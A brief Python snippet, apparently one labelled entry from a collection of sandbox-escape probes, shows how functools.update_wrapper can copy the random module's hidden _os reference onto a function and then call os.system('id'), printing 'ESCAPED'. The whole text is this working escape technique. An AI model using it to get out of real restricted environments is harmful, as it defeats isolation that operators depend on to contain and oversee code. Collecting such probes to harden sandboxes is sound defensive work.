# class: functools.update_wrapper(assigned=...) copies any attribute by name
import functools, random
def w(): pass
functools.update_wrapper(w, random, assigned=("_os",), updated=())
print("ESCAPED", w._os.system("id"))
